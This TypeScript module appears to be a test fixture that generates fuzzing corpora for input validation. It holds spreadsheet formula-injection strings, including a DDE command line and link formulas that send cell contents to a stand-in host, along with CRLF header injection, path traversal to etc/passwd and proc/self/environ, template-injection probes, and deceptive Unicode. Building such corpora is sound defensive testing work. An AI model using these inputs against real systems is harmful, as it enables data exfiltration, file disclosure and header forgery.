const pairs = (starts: string[], ends: string[]): string[] => starts.flatMap((start) => ends.map((end) => start + end))

/** 60 texts that a spreadsheet would calculate, call out with or run. */
export const formulaCorpus: string[] = pairs(
  ['=', '+', '-', '@', '\t=', 'zq"='],
  [
    '1+zq1',
    "cmd|' /C zqcalc'!A0",
    'HYPERLINK("https://elsewhere.example/zq?"&A1,"open")',
    'IMPORTXML("https://elsewhere.example/zq","//a")',
    'WEBSERVICE("https://elsewhere.example/zq")',
    'DDE("zq";"topic";"item")',
    'SUM(A1:A9)*zq2',
    'INDIRECT("zq!A1")',
    '1","=zq3',
    '1;=zq4',
  ],
)

/** 30 texts that would add a line to a header, a mail or a log. */
export const headerCorpus: string[] = pairs(
  ['zq\r\n', 'zq\n', 'zq\r', 'zq%0d%0a', 'zq\u0085', 'zq\u2029'],
  [
    'X-Injected: yes',
    'Set-Cookie: zqsession=planted',
    'Location: https://elsewhere.example/',
    'Bcc: everybody@elsewhere.example',
    '{"level":50,"msg":"zq forged"}',
  ],
)

/** 30 texts that would lead to another file than was meant. */
export const pathCorpus: string[] = pairs(
  ['../../../../', '..\\..\\..\\', '%2e%2e%2f%2e%2e%2f', '....//....//', '/', 'file:///'],
  ['etc/passwd', 'proc/self/environ', 'data/muniment.db', 'windows/win.ini', 'zq\u0000.csv'],
)

/** 20 texts that a template, or a program, would work out. */
export const templateCorpus: string[] = [
  ['zq{{', '}}qz'],
  ['zq${', '}qz'],
  ['zq<%= ', ' %>qz'],
  ['zq#{', '}qz'],
  ['zq[[', ']]qz'],
].flatMap(([start, end]) =>
  ['7*7', 'process.env', 'constructor.constructor("return 7*7")()', "include('/etc/passwd')"].map(
    (inside) => `${start}${inside}${end}`,
  ),
)

/** Characters that are not seen, turn the direction, stand for several or for none, or look like what they are not. */
const characters = [
  ...['\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b[31m', '\u001f', '\u007f', '\u0080', '\u009f'],
  ...['\u00a0', '\u00ad', '\u034f', '\u061c', '\u115f', '\u17b4', '\u180e', '\u200b', '\u200c', '\u200d'],
  ...['\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2060', '\u2066', '\u2069'],
  ...[
    '\ufeff',
    '\ufff9',
    '\ufffc',
    '\ufffd',
    '\u{e0001}',
    '\u{e0041}',
    '\u{fe0f}',
    '\u0300'.repeat(40),
    '\u20dd',
    '\u3164',
  ],
  ...['＜script＞', '‹script›', '＇ or 1＝1', '﹤b﹥', 'ﬁle', 'ŉ', 'İ', 'ı', 'ſ', 'ẞ'],
  ...['👩‍👩‍👧‍👦', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '𝓼𝓬𝓻𝓲𝓹𝓽', 'ａｄｍｉｎ', 'раypal', 'مرحبا', 'שלום', '図書館', 'नमस्ते', '\u{10ffff}'],
]

/** 60 texts that are hard to see, to compare or to print. */
export const unicodeCorpus: string[] = characters.map((character) => `zq${character}u`)
